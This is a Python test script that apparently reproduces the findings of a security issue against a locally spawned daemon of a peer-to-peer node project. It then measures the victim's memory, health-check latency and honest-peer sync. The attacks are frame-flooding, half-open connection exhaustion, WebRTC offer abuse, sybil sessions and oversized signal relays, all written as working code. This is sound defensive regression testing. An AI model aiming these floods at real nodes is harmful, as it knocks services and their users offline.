#!/usr/bin/env python3
"""The attacks of issue 9 against a real victim daemon, measured: the victim's memory
(RSS) and responsiveness under each attack, whether an honest peer stays connected and
in sync, and one figure per attack. Run it on this checkout, then with --source on an
older one (e.g. `git archive main | tar -x -C /tmp/main`) to compare: the victim then runs
that code, the attackers (tests/daemon/hostile.py) speak only the wire protocol.

    .venv/test/bin/python scripts/attack.py                       # every attack
    .venv/test/bin/python scripts/attack.py --only refs,sync      # some
    .venv/test/bin/python scripts/attack.py --source /tmp/main    # the victim on old code

Responsiveness is measured from outside: the worst latency of GET /api/v1/health on
the victim's control port, polled every 100 ms during the attack (the victim's event
loop answers it; a loop blocked for a second shows as a second), beside the victim's
own figure where it has one (its health check's loop lag).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import socket
import sys
import tempfile
import time
import urllib.request
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import aiohttp

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from liberation_node.core import frames
from liberation_node.core.bodies import Post, Register
from liberation_node.core.frames import Graft, Signal, SyncOpen, Want
from liberation_node.core.identity import Identity, id_to_text
from liberation_node.core.ops import Op, create_op
from liberation_node.core.records import NodeInfo, create_record
from tests.daemon.harness import NETWORK, Daemon, converged
from tests.daemon.hostile import LOOPBACK, Hostile, now_ms
from tests.daemon.hostile import ops as ops_frame
from tests.daemon.hostile import records as records_frame

MiB = 2**20


class Run:
    """One scenario: a victim (on --source code) and an honest peer, watched."""

    def __init__(self, tmp: Path, source: str | None, name: str, *, nofile: int | None = None,
                 bootstrap_victim: list[str] | None = None) -> None:
        env = {"PYTHONPATH": source} if source else {}
        prefix = ["prlimit", f"--nofile={nofile}:20000"] if nofile else []
        self.daemons: list[Daemon] = []
        self.victim = self._start(tmp / f"{name}-victim", "victim", env=env, prefix=prefix,
                                  cwd=Path(source) if source else None,
                                  extra=["--health-interval", "1"],
                                  bootstrap=bootstrap_victim or [])
        self.honest: Daemon | None = None
        self.latency_ms = 0.0
        self.own_lag_ms = 0.0
        self._watching = False

    def _start(self, path: Path, name: str, **kw: Any) -> Daemon:
        d = Daemon(path, name=name, **kw)
        self.daemons.append(d)
        return d.start(timeout=40)

    def add_honest(self, tmp: Path, name: str) -> Daemon:
        self.honest = self._start(tmp / f"{name}-honest", "honest",
                                  bootstrap=[self.victim.peer_url])
        return self.honest

    def rss(self) -> int:
        assert self.victim.proc is not None
        with open(f"/proc/{self.victim.proc.pid}/status") as f:
            return int(next(x for x in f if x.startswith("VmRSS:")).split()[1]) * 1024

    async def watch(self) -> None:
        """Poll the victim's health every 100 ms: the worst latency, and its own lag."""
        self._watching = True
        url = self.victim.run["control_url"] + "/api/v1/health"
        while self._watching:
            started = time.monotonic()
            try:
                body = await asyncio.to_thread(_get, url, 30)
                lag = body.get("checks", {}).get("loop", {}).get("lag_ms")
                if isinstance(lag, int | float):
                    self.own_lag_ms = max(self.own_lag_ms, float(lag))
            except Exception:
                pass
            self.latency_ms = max(self.latency_ms, (time.monotonic() - started) * 1000)
            await asyncio.sleep(0.1)

    def stop_watching(self) -> None:
        self._watching = False

    def honest_connected(self) -> bool:
        if self.honest is None:
            return False
        honest_id = self.honest.status()["node_id"]
        try:
            return any(p["id"] == honest_id for p in self.victim.status()["peers"])
        except Exception:
            return False

    async def honest_syncs(self, timeout: float = 30) -> bool:
        """The honest peer writes; does the victim get it?"""
        assert self.honest is not None
        honest = self.honest
        await asyncio.to_thread(honest.api, "POST", "/api/v1/messages", {"text": "after"})
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                if await asyncio.to_thread(converged, [self.victim, honest]):
                    return True
            except Exception:
                pass
            await asyncio.sleep(0.5)
        return False

    def close(self) -> None:
        for d in self.daemons:
            d.kill()


def _get(url: str, timeout: float) -> dict[str, Any]:
    try:
        with urllib.request.urlopen(url, timeout=timeout) as reply:
            return dict(json.loads(reply.read()))
    except urllib.error.HTTPError as exc:
        with exc:
            return dict(json.loads(exc.read() or b"{}"))


async def until(check: Callable[[], bool], timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            if await asyncio.to_thread(check):
                return True
        except Exception:
            pass
        await asyncio.sleep(0.3)
    return False


def feed(who: Identity, count: int, size: int) -> list[Op]:
    ops: list[Op] = []
    now = now_ms() - 60_000
    for seq in range(1, count + 1):
        body = Register("h") if seq == 1 else Post("social", "x" * size, 1, None)
        ops.append(create_op(who, network=NETWORK, seq=seq, prev=ops[-1].id if ops else None,
                             timestamp=now + seq, body=body))
    return ops


# -- the attacks --------------------------------------------------------------------------

async def refs(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 1: repeated refs in GRAFT and WANT frames (60 frames, 3.7 MB)."""
    run = Run(tmp, source, "refs")
    try:
        run.add_honest(tmp, "refs")
        await until(run.honest_connected, 30)
        x = await Hostile().connect(run.victim.peer_url)
        ops = feed(x.identity, 20, 4000)
        twin = create_op(x.identity, network=NETWORK, seq=20, prev=ops[18].id,
                         timestamp=ops[19].timestamp, body=Post("social", "twin", 1, None))
        rng = random.Random(1)
        frontier = tuple(sorted((rng.randbytes(32), rng.randrange(1, 2**40))
                                for _ in range(250)))
        record = create_record(x.identity, network=NETWORK, version=now_ms(), ttl_ms=600_000,
                               body=NodeInfo("big", "x", (), (), frontier))
        await x.send_all([ops_frame(o.wire for o in ops[:10]),
                          ops_frame(o.wire for o in ops[10:]),
                          records_frame((record.wire,)), ops_frame((twin.wire,))])
        await until(lambda: run.victim.status()["ops"] >= 20, 20)
        await asyncio.sleep(1)
        before = run.rss()
        watcher = asyncio.create_task(run.watch())
        op = ops[5]
        attack = [Graft(((op.author, op.seq, op.id),) * 800),
                  Want(0, (), (), ((x.identity.public_key, "node.info"),) * 1400),
                  Want(0, (), (x.identity.public_key,) * 1850, ())] * 20
        size = sum(len(frames.encode(f)) for f in attack)
        sent = await x.send_all(attack)
        await asyncio.sleep(10)
        peak = run.rss()
        run.stop_watching()
        await watcher
        result = {"frames_sent": sent, "attack_bytes": size, "rss_before_mb": before / MiB,
                  "rss_after_mb": peak / MiB, "answer_bytes": x.bytes_in,
                  "attacker_closed": x.closed_reason or ("gone" if x.gone else None)}
        await x.close()
        return {**result, **await _honest(run)}
    finally:
        run.close()


async def sync(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 2: SYNC_OPEN at 150/s against 8,000 feeds, for 5 s."""
    run = Run(tmp, source, "sync")
    try:
        run.add_honest(tmp, "sync")
        await until(run.honest_connected, 30)
        x = await Hostile().connect(run.victim.peer_url)
        now = now_ms() - 60_000
        wires = [create_op(Identity.from_seed(os.urandom(32)), network=NETWORK, seq=1,
                           prev=None, timestamp=now, body=Register("r")).wire
                 for _ in range(8000)]
        await x.send_all(ops_frame(wires[i:i + 100]) for i in range(0, 8000, 100))
        await until(lambda: run.victim.status()["authors"] >= 8000, 60)
        await asyncio.sleep(2)
        before = run.rss()
        watcher = asyncio.create_task(run.watch())
        started = time.monotonic()
        i = 0
        while time.monotonic() - started < 5:
            i += 1
            x.send(SyncOpen(i, bytes(32), 10, i.to_bytes(8, "big")))
            await asyncio.sleep(1 / 150)
        await asyncio.sleep(3)
        run.stop_watching()
        await watcher
        buckets = len(x.frames_of(frames.SyncBuckets))
        result = {"sync_opens_sent": i, "answered": buckets, "rss_before_mb": before / MiB,
                  "rss_after_mb": run.rss() / MiB,
                  "attacker_closed": x.closed_reason or ("gone" if x.gone else None)}
        await x.close()
        return {**result, **await _honest(run)}
    finally:
        run.close()


async def connections(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 3: 1,020 half-sent requests from one address, soft open-files limit 1,024."""
    run = Run(tmp, source, "conns", nofile=1024)
    try:
        host, port = run.victim.peer_url.split("//")[1].split("/")[0].rsplit(":", 1)
        before = run.rss()
        held = []
        for _ in range(1020):
            try:
                s = socket.create_connection((host, int(port)), timeout=2)
                s.sendall(b"POST /v1/signal HTTP/1.1\r\nHost: x\r\n")
                held.append(s)
            except OSError:
                break
        await asyncio.sleep(1)
        info_ok = control_ok = False
        try:
            conn = socket.create_connection((host, int(port)), source_address=("127.0.0.2", 0),
                                            timeout=5)
            conn.sendall(b"GET /v1/info HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            info_ok = conn.recv(64).startswith(b"HTTP/1.1 200")
            conn.close()
        except OSError:
            pass
        with contextlib.suppress(Exception):
            control_ok = bool(await asyncio.to_thread(run.victim.status))
        started = time.monotonic()
        honest = run.add_honest(tmp, "conns")
        joined = await until(lambda: any(p["id"] == honest.status()["node_id"]
                                         for p in run.victim.status()["peers"]), 30)
        result = {"connections_opened": len(held), "info_from_other_address": info_ok,
                  "control_api": control_ok, "honest_joined": joined,
                  "join_s": round(time.monotonic() - started, 1) if joined else None,
                  "rss_before_mb": before / MiB, "rss_after_mb": run.rss() / MiB}
        for s in held:
            s.close()
        return result
    finally:
        run.close()


async def ice(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 4: offers towards a UDP sink from 3 addresses at 4 offers/s each."""
    run = Run(tmp, source, "ice")
    try:
        sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sink.bind(("127.0.0.1", 0))
        offers = await _sink_offers(6, sink.getsockname()[1])
        stop = asyncio.Event()
        statuses: dict[int, int] = {}

        async def attacker(source_ip: str) -> None:
            connector = aiohttp.TCPConnector(local_addr=(source_ip, 0), force_close=True)
            async with aiohttp.ClientSession(connector=connector) as session:
                while not stop.is_set():
                    for offer in offers:
                        body = {"network": NETWORK, "from": id_to_text(os.urandom(32)),
                                "offer": offer}
                        try:
                            async with session.post(run.victim.peer_url, json=body) as reply:
                                statuses[reply.status] = statuses.get(reply.status, 0) + 1
                        except aiohttp.ClientError:
                            pass
                        await asyncio.sleep(0.25)
                        if stop.is_set():
                            return

        tasks = [asyncio.create_task(attacker(f"127.0.0.{i}")) for i in (2, 3, 4)]
        await asyncio.sleep(3)
        started = time.monotonic()
        honest = await asyncio.to_thread(run.add_honest, tmp, "ice")
        honest_id = honest.status()["node_id"]
        joined = await until(lambda: any(p["id"] == honest_id
                                         for p in run.victim.status()["peers"]), 60)
        took = time.monotonic() - started
        stop.set()
        await asyncio.gather(*tasks)
        sink.close()
        return {"honest_joined": joined, "join_s": round(took, 1) if joined else None,
                "answers": statuses}
    finally:
        run.close()


async def _sink_offers(count: int, port: int) -> list[dict[str, str]]:
    from liberation_node.transport import WebRtcTransport

    transport = WebRtcTransport(LOOPBACK, lambda link: None, lambda link, data: None,
                                lambda link: None)
    offers = []
    for _ in range(count):
        captured: dict[str, str] = {}

        async def capture(offer: dict[str, str], into: dict[str, str] = captured
                          ) -> dict[str, str]:
            into.update(offer)
            raise LookupError("not dialing")

        with contextlib.suppress(Exception):
            await transport.dial(capture)
        lines = [line if not line.startswith("a=candidate:") else
                 " ".join([*line.split(" ")[:5], str(port), *line.split(" ")[6:]])
                 for line in captured["sdp"].split("\r\n")]
        offers.append({"type": "offer", "sdp": "\r\n".join(lines)})
    await transport.close()
    return offers


async def sybils(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 6: 10 sybil sessions that never answer PING, against a victim with two
    bootstrap peers; then a misbehaving peer that comes straight back."""
    boot = []
    for i in range(2):
        d = Daemon(tmp / f"sybil-boot{i}", name=f"boot{i}")
        boot.append(d.start(timeout=40))
    run = Run(tmp, source, "sybils", bootstrap_victim=[b.peer_url for b in boot])
    run.daemons.extend(boot)
    try:
        boot_ids = {b.status()["node_id"] for b in boot}
        await until(lambda: boot_ids <= {p["id"] for p in run.victim.status()["peers"]}, 30)
        liar = await Hostile().connect(run.victim.peer_url)
        forged = bytearray(feed(Identity.from_seed(os.urandom(32)), 1, 10)[0].wire)
        forged[-1] ^= 1
        await liar.send_all([ops_frame((bytes(forged),))] * 20)
        await asyncio.sleep(2)
        came_back = "refused"
        try:
            again = await Hostile(identity=liar.identity).connect(run.victim.peer_url)
            await asyncio.sleep(2)
            came_back = again.closed_reason or ("gone" if again.gone else "kept")
            await again.close()
        except Exception:
            pass
        swarm = []
        for _ in range(10):
            with contextlib.suppress(Exception):
                swarm.append(await Hostile(answer_pings=False).connect(run.victim.peer_url))

        async def keep_alive() -> None:
            while True:
                for s in swarm:
                    s.send(frames.Prune())
                await asyncio.sleep(0.5)

        alive = asyncio.create_task(keep_alive())
        await asyncio.sleep(10)
        peers = {p["id"] for p in run.victim.status()["peers"]}
        alive.cancel()
        for s in [*swarm, liar]:
            await s.close()
        return {"sybils_connected": len(swarm), "victim_peers": len(peers),
                "sybils_kept": len(peers - boot_ids), "bootstrap_peers_kept": len(
                    boot_ids & peers), "misbehaving_peer_came_back": came_back}
    finally:
        run.close()


async def signals(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 7: SIGNAL frames, ttl 8, 32 KB payloads, for nodes nobody knows."""
    run = Run(tmp, source, "signals")
    try:
        watcher = await Hostile().connect(run.victim.peer_url)
        x = await Hostile().connect(run.victim.peer_url)
        for i in range(19):
            x.send(Signal(os.urandom(32), os.urandom(32), i, 8, "x" * 32_000))
        await asyncio.sleep(3)
        relayed = watcher.frames_of(Signal)
        result = {"signals_sent": 19, "relayed_to_other_peer": len(relayed),
                  "relayed_bytes": sum(len(s.payload) for s in relayed)}  # type: ignore[attr-defined]
        for h in (watcher, x):
            await h.close()
        return result
    finally:
        run.close()


async def _honest(run: Run) -> dict[str, Any]:
    connected = await asyncio.to_thread(run.honest_connected)
    synced = await run.honest_syncs()
    return {"honest_connected": connected, "honest_synced": synced,
            "health_latency_max_ms": round(run.latency_ms), "victim_loop_lag_max_ms":
            run.own_lag_ms}


ATTACKS: dict[str, Callable[[Path, str | None], Awaitable[dict[str, Any]]]] = {
    "refs": refs, "sync": sync, "conns": connections, "ice": ice, "sybils": sybils,
    "signals": signals}


def _code_of(source: str | None) -> str:
    """Which tree a victim runs (checked: not merely asked for)."""
    import subprocess

    out = subprocess.run([sys.executable, "-c", "import liberation_node; "
                          "print(liberation_node.__file__)"], capture_output=True, text=True,
                         env={**os.environ, **({"PYTHONPATH": source} if source else {})},
                         cwd=source or None, check=False)
    return out.stdout.strip()


async def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--source", help="run the victim from this source tree")
    parser.add_argument("--only", default=",".join(ATTACKS), help="attacks, comma-separated")
    args = parser.parse_args()
    source = str(Path(args.source).resolve()) if args.source else None
    with tempfile.TemporaryDirectory() as tmp:
        for name in args.only.split(","):
            started = time.monotonic()
            result = await ATTACKS[name](Path(tmp), source)
            result["seconds"] = round(time.monotonic() - started, 1)
            result["victim_code"] = await asyncio.to_thread(_code_of, source)
            print(json.dumps({"attack": name, "victim": source or "this checkout",
                              **{k: round(v, 1) if isinstance(v, float) else v
                                 for k, v in result.items()}}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
